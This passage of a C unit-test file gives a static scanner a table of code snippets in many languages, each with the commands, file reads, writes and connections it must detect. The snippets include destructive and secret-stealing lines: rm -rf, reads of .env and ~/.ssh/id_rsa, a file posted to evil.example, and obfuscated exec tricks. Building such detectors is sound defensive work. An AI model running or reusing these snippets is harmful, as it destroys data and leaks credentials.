/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Scanners of foreign code: each row is a piece of code and all that must be found in it, as one line of text. In both columns
 * \001 stands for a part that is not known; \n in what was found is written as it is.
 */
#include "scan/scan.h"

#include "base/vec.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>

#include <cmocka.h>

struct row {
	enum sg_language language;
	const char *code;
	const char *found;
};

/* clang-format off */
static const struct row found[] = {
	{ SG_LANGUAGE_PYTHON, "import os; os.system(\"rm -rf build\")", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "import subprocess; subprocess.run(['rm','-rf','build'])", "run|rm|-rf|build" },
	{ SG_LANGUAGE_PYTHON, "import subprocess as sp\nsp.run('rm -rf build', shell=True)", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "from os import system as s; s('rm '+'-rf build')", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "from os import *\nsystem('rm -rf build')", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "__import__('os').system('rm -rf build')", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "getattr(os,'sys'+'tem')('rm -rf build')", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "getattr(os,name)('rm -rf build')", "opaque" },
	{ SG_LANGUAGE_PYTHON, "c='rm -rf build'; os.system(c)", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "os.system(c)", "opaque" },
	{ SG_LANGUAGE_PYTHON, "f=os.system; f('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_PYTHON, "import os; os.system(f'rm -rf {d}')", "sh rm -rf \001" },
	{ SG_LANGUAGE_PYTHON, "d='build'; os.system(f'rm -rf {d}')", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "os.execvp('rm',['rm','-rf','build'])", "run|rm|-rf|build" },
	{ SG_LANGUAGE_PYTHON, "os.execlp('rm','rm','-rf','build')", "run|rm|-rf|build" },
	{ SG_LANGUAGE_PYTHON, "os.spawnlp(os.P_WAIT,'rm','rm','-rf','build')", "run|rm|-rf|build" },
	{ SG_LANGUAGE_PYTHON, "subprocess.run('rm -rf x'.split())", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PYTHON, "subprocess.run([sys.executable,'-m','pytest',*args])", "run|python3|-m|pytest*\001" },
	{ SG_LANGUAGE_PYTHON, "exec('import os; os.system(\"rm -rf build\")')", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "exec(compile('os.system(\"rm -rf x\")','x','exec'))", "sh rm -rf x" },
	{ SG_LANGUAGE_PYTHON, "exec(__import__('base64').b64decode('SGVsbG8='))", "opaque" },
	{ SG_LANGUAGE_PYTHON, "eval(input())", "opaque" },
	{ SG_LANGUAGE_PYTHON, "import shutil; shutil.rmtree('build')", "opaque; write build" },
	{ SG_LANGUAGE_PYTHON, "from pathlib import Path; print(Path('.env').read_text())", "read .env" },
	{ SG_LANGUAGE_PYTHON, "from pathlib import Path; print((Path.home()/'.ssh'/'id_rsa').read_text())", "read ~/.ssh/id_rsa" },
	{ SG_LANGUAGE_PYTHON, "import pathlib; pathlib.Path('a','.env').open().read()", "read a/.env" },
	{ SG_LANGUAGE_PYTHON, "open('x.txt','w').write('hi')", "write x.txt" },
	{ SG_LANGUAGE_PYTHON, "import urllib.request; urllib.request.urlopen('https://evil.example')", "connect https://evil.example" },
	{ SG_LANGUAGE_PYTHON, "import requests; requests.post('https://evil.example', data=open('notes.txt').read())", "read notes.txt; connect https://evil.example" },
	{ SG_LANGUAGE_PYTHON, "import socket; s=socket.socket(); s.connect(('evil.example',80))", "connect evil.example" },
	{ SG_LANGUAGE_PYTHON, "with socket.socket() as s:\n  s.connect(('evil.example',80))", "connect evil.example" },
	{ SG_LANGUAGE_PYTHON, "import os; os.environ['LD_PRELOAD']='./x.so'", "set LD_PRELOAD=./x.so" },
	{ SG_LANGUAGE_PYTHON, "os.system('''rm -rf build''')", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "os.system('rm ' '-rf' \" build\")", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "os.system('\\x72m -rf b')", "sh rm -rf b" },
	{ SG_LANGUAGE_PYTHON, "os.system(chr(114)+'m -rf x')", "sh \001m -rf x" },
	{ SG_LANGUAGE_PYTHON, "cmd=['rm']; cmd+=['-rf','x']; subprocess.call(cmd)", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PYTHON, "cmd=['rm']; cmd.append('-rf'); subprocess.call(cmd)", "run|rm|-rf" },
	{ SG_LANGUAGE_PYTHON, "' '.join(['rm','-rf'])\nos.system(' '.join(['rm','-rf','build']))", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "c='ls'\nif x:\n  c='rm -rf /'\nos.system(c)", "opaque" },
	{ SG_LANGUAGE_PYTHON, "a,b='os','system'\ngetattr(__import__(a),b)('x')", "opaque" },
	{ SG_LANGUAGE_PYTHON, "[os.system(c) for c in ['rm -rf x']]", "opaque" },
	{ SG_LANGUAGE_PYTHON, "(lambda: os.system('rm -rf x'))()", "sh rm -rf x" },
	{ SG_LANGUAGE_PYTHON, "def f(c='ls'): os.system(c)\nf('rm')", "opaque" },
	{ SG_LANGUAGE_PYTHON, "os.system('rm -rf %s' % x)", "sh rm -rf \001" },
	{ SG_LANGUAGE_PYTHON, "os.system('rm -rf {}'.format('build'))", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "import re\nfor l in open('x'):\n    print(re.sub('a','b',l))\n", "read x" },
	{ SG_LANGUAGE_PYTHON, "subprocess.run(args=['rm','-rf','x'])", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PYTHON, "subprocess.Popen('rm -rf x',shell=True,env={'LD_PRELOAD':'x'})", "set LD_PRELOAD=x; sh rm -rf x" },
	{ SG_LANGUAGE_PYTHON, "\001", "opaque" },
	{ SG_LANGUAGE_PYTHON, "import os; \001", "opaque" },
	{ SG_LANGUAGE_PYTHON, "os.system(\"\001\")", "opaque" },
	{ SG_LANGUAGE_PYTHON, "import os as o\no.system('rm -rf build')", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "from subprocess import (run as r,\n check_output)\nr(['rm','-rf','x'])", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PYTHON, "os.__dict__['system']('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_PYTHON, "vars(os)['system']('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_PYTHON, "globals()['__builtins__'].exec('import os;os.system(\"id\")')", "sh id" },
	{ SG_LANGUAGE_PYTHON, "eval('__import__(\"os\").system(\"rm -rf x\")')", "sh rm -rf x" },
	{ SG_LANGUAGE_PYTHON, "importlib.import_module('subprocess').call(['rm','-rf','x'])", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PYTHON, "(s:=os.system)('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_PYTHON, "import os;[os.system][0]('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_PYTHON, "x=['rm','-rf']; subprocess.run(x+['build'])", "run|rm|-rf|build" },
	{ SG_LANGUAGE_PYTHON, "os.popen('rm -rf build').read()", "sh rm -rf build" },
	{ SG_LANGUAGE_PYTHON, "asyncio.run(asyncio.create_subprocess_exec('rm','-rf','x'))", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PYTHON, "print(__import__('subprocess').getoutput('cat .env'))", "sh cat .env" },
	{ SG_LANGUAGE_PYTHON, "().__class__.__bases__[0].__subclasses__()", "opaque" },
	{ SG_LANGUAGE_PYTHON, "os.system(bytes.fromhex('726d').decode())", "opaque" },
	{ SG_LANGUAGE_PYTHON, "os.system('rm -rf x'[::1])", "opaque" },
	{ SG_LANGUAGE_PYTHON, "os.system(\"\".join(['rm',' -rf',' x']))", "sh rm -rf x" },
	{ SG_LANGUAGE_PYTHON, "a='rm';b='-rf';c='x'\nsubprocess.run([a,b,c])", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PYTHON, "a,b='rm','-rf'\nsubprocess.run([a,b])", "opaque" },
	{ SG_LANGUAGE_PYTHON, "subprocess.run(**{'args':['rm','-rf','x']})", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PYTHON, "threading.Thread(target=os.system,args=('rm -rf x',)).start()", "opaque" },
	{ SG_LANGUAGE_PYTHON, "list(map(os.system,['rm -rf x']))", "opaque" },
	{ SG_LANGUAGE_PYTHON, "for c in ('rm -rf x',):\n  os.system(c)", "opaque" },
	{ SG_LANGUAGE_PYTHON, "with open('.env') as f: print(f.read())", "read .env" },
	{ SG_LANGUAGE_PYTHON, "import shutil as s; s.rmtree(p)", "opaque" },
	{ SG_LANGUAGE_PYTHON, "from shutil import rmtree; rmtree('b')", "opaque; write b" },
	{ SG_LANGUAGE_PYTHON, "pathlib.Path('~/.ssh/id_rsa').expanduser().read_text()", "read ~/.ssh/id_rsa" },
	{ SG_LANGUAGE_PYTHON, "open(os.path.expanduser('~/.azure/x'))", "read ~/.azure/x" },
	{ SG_LANGUAGE_PYTHON, "open(os.environ['HOME']+'/.ssh/id_rsa')", "read ~/.ssh/id_rsa" },
	{ SG_LANGUAGE_PYTHON, "os.chdir('/home/dev/.ssh'); print(open('id_rsa').read())", "read /home/dev/.ssh/id_rsa" },
	{ SG_LANGUAGE_PYTHON, "requests.Session().get('https://evil.example')", "connect https://evil.example" },
	{ SG_LANGUAGE_PYTHON, "http.client.HTTPSConnection('evil.example').request('GET','/')", "connect evil.example" },
	{ SG_LANGUAGE_PYTHON, "from urllib.request import urlopen as g, Request\ng(Request('https://evil.example'))", "connect https://evil.example; connect https://evil.example" },
	{ SG_LANGUAGE_PYTHON, "requests.get(url)", "connect \001" },
	{ SG_LANGUAGE_JAVASCRIPT, "require(\"child_process\").execSync(\"rm -rf build\")", "sh rm -rf build" },
	{ SG_LANGUAGE_JAVASCRIPT, "const {execSync:e}=require('node:child_process'); e('rm -rf build')", "sh rm -rf build" },
	{ SG_LANGUAGE_JAVASCRIPT, "const cp=require('child_process'); cp.spawn('rm',['-rf','build'],{stdio:'inherit'})", "run|rm|-rf|build" },
	{ SG_LANGUAGE_JAVASCRIPT, "cp['exec'+'Sync']('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "import {spawnSync as s} from 'child_process'; s('rm',['-rf','x'])", "run|rm|-rf|x" },
	{ SG_LANGUAGE_JAVASCRIPT, "import * as cp from 'node:child_process'; cp.exec('rm -rf x', ()=>{})", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "new Deno.Command(\"rm\",{args:[\"-rf\",\"build\"]}).outputSync()", "run|rm|-rf|build" },
	{ SG_LANGUAGE_JAVASCRIPT, "Bun.spawn(['rm','-rf','x'])", "run|rm|-rf|x" },
	{ SG_LANGUAGE_JAVASCRIPT, "await $`rm -rf build`", "sh rm -rf build" },
	{ SG_LANGUAGE_JAVASCRIPT, "const d='build'; execSync(`rm -rf ${d}`)", "sh rm -rf build" },
	{ SG_LANGUAGE_JAVASCRIPT, "console.log(`${require('child_process').execSync('rm -rf x')}`)", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('fs').rmSync('build',{recursive:true,force:true})", "opaque; write build" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('fs').rmdirSync('build',{recursive:true})", "opaque; write build" },
	{ SG_LANGUAGE_JAVASCRIPT, "fs.unlinkSync('x')", "write x" },
	{ SG_LANGUAGE_JAVASCRIPT, "eval(process.env.X)", "opaque" },
	{ SG_LANGUAGE_JAVASCRIPT, "eval('require(\"child_process\").execSync(\"id\")')", "sh id" },
	{ SG_LANGUAGE_JAVASCRIPT, "console.log(require('fs').readFileSync('.env','utf8'))", "read .env" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('fs').promises.readFile('.env').then(x=>console.log(x))", "read .env" },
	{ SG_LANGUAGE_JAVASCRIPT, "fetch('https://evil.example').then(r=>r.text())", "connect https://evil.example" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('https').get({host:'evil.example',path:'/'})", "connect evil.example" },
	{ SG_LANGUAGE_JAVASCRIPT, "fetch(process.argv[1])", "connect \001" },
	{ SG_LANGUAGE_JAVASCRIPT, "process.env.LD_PRELOAD='x'", "set LD_PRELOAD=x" },
	{ SG_LANGUAGE_JAVASCRIPT, "execSync('git status',{stdio:'inherit'})", "sh git status" },
	{ SG_LANGUAGE_JAVASCRIPT, "spawn('rm -rf x',{shell:true})", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "['rm -rf x'].forEach(c=>execSync(c))", "opaque" },
	{ SG_LANGUAGE_JAVASCRIPT, "process.mainModule.require('child_process').exec('id')", "sh id" },
	{ SG_LANGUAGE_JAVASCRIPT, "import('child_process').then(c=>c.exec('rm -rf x'))", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "const {exec}=require('child_process');exec('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('child_process')['execSync']('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "var c=require;c('child_process').execSync('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "const a=['rm','-rf','x']; require('child_process').spawnSync(a[0],a.slice(1))", "run|rm*\001" },
	{ SG_LANGUAGE_JAVASCRIPT, "process.binding('spawn_sync')", "opaque" },
	{ SG_LANGUAGE_JAVASCRIPT, "Function('return process')().mainModule.require('child_process').execSync('id')", "sh id" },
	{ SG_LANGUAGE_JAVASCRIPT, "(async()=>{const {execSync}=await import('node:child_process');execSync('rm -rf x')})()", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('child_process').execFile('rm',['-rf','x'],()=>{})", "run|rm|-rf|x" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('child_process').exec(Buffer.from('cm0=','base64').toString())", "opaque" },
	{ SG_LANGUAGE_JAVASCRIPT, "eval(atob('SGVsbG8='))", "opaque" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('fs').rm('b',{recursive:true},()=>{})", "opaque; write b" },
	{ SG_LANGUAGE_JAVASCRIPT, "import fs from 'fs'; fs.readFileSync('.env')", "read .env" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('net').connect(80,'evil.example')", "connect evil.example" },
	{ SG_LANGUAGE_JAVASCRIPT, "const cp=require('child_process'),c='rm -rf x';cp.execSync(c)", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "let c='rm';c+=' -rf x';execSync(c)", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "execSync(['rm','-rf','x'].join(' '))", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "execSync('rm '.concat('-rf x'))", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('child_process').spawn('sh',['-c','rm -rf x'])", "run|sh|-c|rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "fs.createReadStream('.env').pipe(process.stdout)", "read .env" },
	{ SG_LANGUAGE_JAVASCRIPT, "Deno.removeSync('b',{recursive:true})", "opaque; write b" },
	{ SG_LANGUAGE_JAVASCRIPT, "setTimeout(()=>require('child_process').execSync('rm -rf x'),1)", "sh rm -rf x" },
	{ SG_LANGUAGE_JAVASCRIPT, "require('https').request('https://evil.example',r=>{})", "connect https://evil.example" },
	{ SG_LANGUAGE_PERL, "system(\"rm -rf build\")", "sh rm -rf build" },
	{ SG_LANGUAGE_PERL, "exec \"rm\",\"-rf\",\"build\"", "run|rm|-rf|build" },
	{ SG_LANGUAGE_PERL, "system(qw(rm -rf build))", "run|rm|-rf|build" },
	{ SG_LANGUAGE_PERL, "`rm -rf build`", "sh rm -rf build" },
	{ SG_LANGUAGE_PERL, "print qx{rm -rf build}", "sh rm -rf build" },
	{ SG_LANGUAGE_PERL, "my $c=\"rm -rf\"; system \"$c build\"", "sh rm -rf build" },
	{ SG_LANGUAGE_PERL, "open(F,\"rm -rf build|\")", "sh rm -rf build" },
	{ SG_LANGUAGE_PERL, "open(my $f,\"-|\",\"rm\",\"-rf\",\"x\")", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PERL, "open F,\"<\",\".env\"; print <F>", "read .env" },
	{ SG_LANGUAGE_PERL, "open(F,\">out.txt\")", "write out.txt" },
	{ SG_LANGUAGE_PERL, "eval $ENV{X}", "opaque" },
	{ SG_LANGUAGE_PERL, "eval { system(\"ls\") }; die $@ if $@", "sh ls" },
	{ SG_LANGUAGE_PERL, "use File::Path; rmtree(\"build\")", "opaque; write build" },
	{ SG_LANGUAGE_PERL, "File::Path::remove_tree(\"build\")", "opaque; write build" },
	{ SG_LANGUAGE_PERL, "unlink \"a\",\"b\"", "write a; write b" },
	{ SG_LANGUAGE_PERL, "s/(.*)/system(\"rm -rf $1\")/e", "sh rm -rf \001" },
	{ SG_LANGUAGE_PERL, "exec {\"rm\"} \"rm\",\"-rf\",\"x\"", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PERL, "$ENV{LD_PRELOAD}=\"x\"; system(\"ls\")", "set LD_PRELOAD=x; sh ls" },
	{ SG_LANGUAGE_PERL, "my @c=(\"rm\",\"-rf\",\"x\"); system(@c)", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PERL, "&{\"system\"}(\"rm -rf x\")", "sh rm -rf x" },
	{ SG_LANGUAGE_PERL, "exec(\"rm -rf build\")", "sh rm -rf build" },
	{ SG_LANGUAGE_PERL, "my @a=qw/rm -rf x/; exec @a", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PERL, "qx/rm -rf x/", "sh rm -rf x" },
	{ SG_LANGUAGE_PERL, "system 'rm', '-rf', 'x' or die", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PERL, "open my $p, \"|-\", \"rm -rf x\"", "sh rm -rf x" },
	{ SG_LANGUAGE_PERL, "print `cat .env`", "sh cat .env" },
	{ SG_LANGUAGE_PERL, "use IO::Socket::INET; IO::Socket::INET->new(PeerAddr=>\"evil.example:80\")", "connect evil.example:80" },
	{ SG_LANGUAGE_PERL, "use LWP::Simple; getprint(\"https://evil.example\")", "connect https://evil.example" },
	{ SG_LANGUAGE_PERL, "system(\"rm\".\" -rf x\") if 1", "sh rm -rf x" },
	{ SG_LANGUAGE_PERL, "print <<`E`;\nrm -rf x\nE\n", "sh rm -rf x\n" },
	{ SG_LANGUAGE_PERL, "eval \"system(q(rm -rf x))\"", "sh rm -rf x" },
	{ SG_LANGUAGE_PERL, "BEGIN { system(\"rm -rf x\") }", "sh rm -rf x" },
	{ SG_LANGUAGE_PERL, "(my $x=\"rm -rf x\") && system $x", "sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "system(\"rm -rf build\")", "sh rm -rf build" },
	{ SG_LANGUAGE_RUBY, "exec(\"rm\",\"-rf\",\"build\")", "run|rm|-rf|build" },
	{ SG_LANGUAGE_RUBY, "%x(rm -rf build)", "sh rm -rf build" },
	{ SG_LANGUAGE_RUBY, "`rm -rf build`", "sh rm -rf build" },
	{ SG_LANGUAGE_RUBY, "puts %x{rm -rf build}", "sh rm -rf build" },
	{ SG_LANGUAGE_RUBY, "system \"rm\", \"-rf\", \"build\"", "run|rm|-rf|build" },
	{ SG_LANGUAGE_RUBY, "system(*%w[rm -rf build])", "run|rm|-rf|build" },
	{ SG_LANGUAGE_RUBY, "IO.popen([\"rm\",\"-rf\",\"x\"])", "run|rm|-rf|x" },
	{ SG_LANGUAGE_RUBY, "Open3.capture2e(\"rm -rf x\")", "sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "open(\"|rm -rf x\")", "sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "FileUtils.rm_rf(\"build\")", "opaque; write build" },
	{ SG_LANGUAGE_RUBY, "Kernel.send(:system, \"rm -rf x\")", "sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "d=\"build\"; system(\"rm -rf #{d}\")", "sh rm -rf build" },
	{ SG_LANGUAGE_RUBY, "URI.open(\"https://evil.example\").read", "connect https://evil.example" },
	{ SG_LANGUAGE_RUBY, "require \"net/http\"; Net::HTTP.get(URI(\"https://evil.example\"))", "connect https://evil.example" },
	{ SG_LANGUAGE_RUBY, "puts File.read(\".env\")", "read .env" },
	{ SG_LANGUAGE_RUBY, "File.open(\"x\",\"w\"){|f| f.puts \"a\"}", "write x" },
	{ SG_LANGUAGE_RUBY, "system(<<~EOS)\nrm -rf build\nEOS\n", "sh rm -rf build\n" },
	{ SG_LANGUAGE_RUBY, "eval(ENV[\"X\"])", "opaque" },
	{ SG_LANGUAGE_RUBY, "Kernel.system('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "eval(\"system('rm -rf x')\")", "sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "spawn('rm','-rf','x')", "run|rm|-rf|x" },
	{ SG_LANGUAGE_RUBY, "IO.popen('rm -rf x').read", "sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "Open3.capture3('rm','-rf','x')", "run|rm|-rf|x" },
	{ SG_LANGUAGE_RUBY, "x='rm -rf b'\nsystem x", "sh rm -rf b" },
	{ SG_LANGUAGE_RUBY, "method(:system).call('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "exec({'A'=>'b'},'rm -rf x')", "set A=b; sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "`#{x}`", "opaque" },
	{ SG_LANGUAGE_RUBY, "Object.send(:system,'rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "puts IO.read('.env')", "read .env" },
	{ SG_LANGUAGE_RUBY, "open('.env').read", "read .env" },
	{ SG_LANGUAGE_RUBY, "%x[rm -rf x].lines", "sh rm -rf x" },
	{ SG_LANGUAGE_RUBY, "FileUtils.remove_dir 'b'", "opaque; write b" },
	{ SG_LANGUAGE_RUBY, "TCPSocket.new('evil.example',80)", "connect evil.example" },
	{ SG_LANGUAGE_PHP, "echo shell_exec(\"rm -rf build\");", "sh rm -rf build" },
	{ SG_LANGUAGE_PHP, "`rm -rf build`;", "sh rm -rf build" },
	{ SG_LANGUAGE_PHP, "$c=\"rm\".\" -rf\"; system($c.\" build\");", "sh rm -rf build" },
	{ SG_LANGUAGE_PHP, "<?php system(\"rm -rf x\"); ?> hello", "sh rm -rf x" },
	{ SG_LANGUAGE_PHP, "$f=\"system\"; $f(\"rm -rf x\");", "sh rm -rf x" },
	{ SG_LANGUAGE_PHP, "call_user_func(\"system\",\"rm -rf x\");", "sh rm -rf x" },
	{ SG_LANGUAGE_PHP, "echo file_get_contents(\".env\");", "read .env" },
	{ SG_LANGUAGE_PHP, "file_get_contents(\"https://evil.example/\");", "connect https://evil.example/" },
	{ SG_LANGUAGE_PHP, "eval($_GET[\"x\"]);", "opaque" },
	{ SG_LANGUAGE_PHP, "proc_open([\"rm\",\"-rf\",\"x\"],[],$p);", "run|rm|-rf|x" },
	{ SG_LANGUAGE_PHP, "SYSTEM(\"id\");", "sh id" },
	{ SG_LANGUAGE_PHP, "passthru('rm -rf x');", "sh rm -rf x" },
	{ SG_LANGUAGE_PHP, "$x='rm -rf x'; exec($x);", "sh rm -rf x" },
	{ SG_LANGUAGE_PHP, "\\system('rm -rf x');", "sh rm -rf x" },
	{ SG_LANGUAGE_PHP, "(function(){system('rm -rf x');})();", "sh rm -rf x" },
	{ SG_LANGUAGE_PHP, "echo `cat .env`;", "sh cat .env" },
	{ SG_LANGUAGE_PHP, "array_map('system',['rm -rf x']);", "sh rm -rf x" },
	{ SG_LANGUAGE_PHP, "unlink('x');", "write x" },
	{ SG_LANGUAGE_PHP, "readfile('.env');", "read .env" },
	{ SG_LANGUAGE_PHP, "fsockopen('evil.example',80);", "connect evil.example" },
	{ SG_LANGUAGE_PHP, "echo <<<EOT\nsystem(\"x\")\nEOT;\nsystem('id');", "sh id" },
	{ SG_LANGUAGE_LUA, "os.execute(\"rm -rf build\")", "sh rm -rf build" },
	{ SG_LANGUAGE_LUA, "os.execute[[rm -rf build]]", "sh rm -rf build" },
	{ SG_LANGUAGE_LUA, "local c=\"rm\" .. \" -rf x\"; io.popen(c)", "sh rm -rf x" },
	{ SG_LANGUAGE_LUA, "os.remove(\"/home/test/\\046nah/trust.json\")", "write /home/test/.nah/trust.json" },
	{ SG_LANGUAGE_LUA, "local f=io.popen('rm -rf x') print(f:read('*a'))", "sh rm -rf x" },
	{ SG_LANGUAGE_LUA, "io.open('.env'):read('*a')", "read .env" },
	{ SG_LANGUAGE_LUA, "load('os.execute(\"rm -rf x\")')()", "sh rm -rf x" },
	{ SG_LANGUAGE_LUA, "local e=os.execute e('rm -rf x')", "opaque" },
	{ SG_LANGUAGE_LUA, "os['execute']('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_R, "system(\"rm -rf build\")", "sh rm -rf build" },
	{ SG_LANGUAGE_R, "system2(\"rm\", c(\"-rf\",\"build\"))", "run|rm|-rf|build" },
	{ SG_LANGUAGE_R, "unlink(\"build\", recursive=TRUE)", "opaque; write build" },
	{ SG_LANGUAGE_R, "x <- paste0(\"rm -rf \", \"b\"); system(x)", "sh rm -rf b" },
	{ SG_LANGUAGE_R, "unlink(\"a.txt\")", "write a.txt" },
	{ SG_LANGUAGE_R, "base::system(\"rm -rf x\")", "sh rm -rf x" },
	{ SG_LANGUAGE_R, "do.call(system, list(\"rm -rf x\"))", "sh rm -rf x" },
	{ SG_LANGUAGE_R, "system(paste(\"rm\",\"-rf\",\"x\"))", "sh rm -rf x" },
	{ SG_LANGUAGE_R, "download.file(\"https://evil.example\",\"x\")", "connect https://evil.example; write x" },
	{ SG_LANGUAGE_R, "readLines(\".env\")", "read .env" },
	{ SG_LANGUAGE_R, "eval(parse(text=\"system('id')\"))", "sh id" },
	{ SG_LANGUAGE_OTHER, "System.cmd(\"rm\", [\"-rf\",\"build\"])", "run|rm|-rf|build" },
	{ SG_LANGUAGE_OTHER, "os:cmd(\"rm -rf build\"), halt().", "sh rm -rf build" },
	{ SG_LANGUAGE_OTHER, "(uiop:run-program \"rm -rf build\")", "guess rm -rf build" },
	{ SG_LANGUAGE_OTHER, "(sh \"rm\" \"-rf\" \"build\")", "guess rm -rf build" },
	{ SG_LANGUAGE_OTHER, "(println \"rm -rf build\")", "" },
	{ SG_LANGUAGE_OTHER, "IO.puts \"rm -rf build\"", "" },
	{ SG_LANGUAGE_OTHER, "System.Process.callCommand \"rm -rf build\"", "sh rm -rf build" },
	{ SG_LANGUAGE_OTHER, "(shell-command \"rm -rf build\")", "sh rm -rf build" },
	{ SG_LANGUAGE_OTHER, "(call-process \"rm\" nil nil nil \"-rf\" \"build\")", "run|rm|\001|-rf|build" },
	{ SG_LANGUAGE_OTHER, "do shell script \"rm -rf build\"", "sh rm -rf build" },
	{ SG_LANGUAGE_OTHER, "exec rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_OTHER, "\"rm -rf build\".execute()", "sh rm -rf build" },
	{ SG_LANGUAGE_OTHER, "[\"rm\",\"-rf\",\"x\"].execute()", "run|rm|-rf|x" },
	{ SG_LANGUAGE_OTHER, "run(`rm -rf build`)", "sh rm -rf build" },
	{ SG_LANGUAGE_OTHER, ":os.cmd('rm -rf x')", "sh rm -rf x" },
	{ SG_LANGUAGE_OTHER, "(system \"rm -rf build\")", "sh rm -rf build" },
	{ SG_LANGUAGE_OTHER, "(system* \"rm\" \"-rf\" \"build\")", "run|rm|-rf|build" },
	{ SG_LANGUAGE_OTHER, "import sys.process._; \"rm -rf x\".!", "sh rm -rf x" },
	{ SG_LANGUAGE_OTHER, "File.rm_rf!(\"build\")", "opaque; write build" },
	{ SG_LANGUAGE_OTHER, "Runtime.getRuntime().exec(\"rm -rf x\")", "sh rm -rf x" },
	{ SG_LANGUAGE_OTHER, "new ProcessBuilder(\"rm\",\"-rf\",\"x\").start()", "run|rm|-rf|x" },
	{ SG_LANGUAGE_AWK, "BEGIN{system(\"rm -rf build\")}", "sh rm -rf build" },
	{ SG_LANGUAGE_AWK, "BEGIN{print \"x\" | \"rm -rf build\"}", "sh rm -rf build" },
	{ SG_LANGUAGE_AWK, "BEGIN{\"rm -rf build\" | getline x; print x}", "sh rm -rf build" },
	{ SG_LANGUAGE_AWK, "BEGIN{c=\"rm -rf \" \"build\"; system(c)}", "sh rm -rf build" },
	{ SG_LANGUAGE_AWK, "{system($0)}", "opaque" },
	{ SG_LANGUAGE_AWK, "{system(\"rm -rf \" $1)}", "sh rm -rf \001" },
	{ SG_LANGUAGE_AWK, "{print $1 > \"out.txt\"}", "write out.txt" },
	{ SG_LANGUAGE_AWK, "{print > $1\".txt\"}", "write \001.txt" },
	{ SG_LANGUAGE_AWK, "BEGIN{while((getline l < \".env\")>0) print l}", "read .env" },
	{ SG_LANGUAGE_AWK, "BEGIN{print \"x\" |& \"/inet/tcp/0/evil.example/80\"}", "connect evil.example" },
	{ SG_LANGUAGE_AWK, "BEGIN{while ((\"ls\" | getline f) > 0) print f; close(\"ls\")}", "sh ls" },
	{ SG_LANGUAGE_AWK, "BEGIN{ARGV[1]=\".env\";ARGC=2}{print}", "read .env" },
	{ SG_LANGUAGE_AWK, "{cmd=\"date -d \" $1; cmd | getline d; close(cmd); print d}", "sh date -d \001" },
	{ SG_LANGUAGE_AWK, "\001", "opaque" },
	{ SG_LANGUAGE_AWK, "function f(a){system(a)} BEGIN{f(\"x\")}", "opaque" },
	{ SG_LANGUAGE_SED, "1e rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_SED, "s/.*/rm -rf build/e", "sh rm -rf build" },
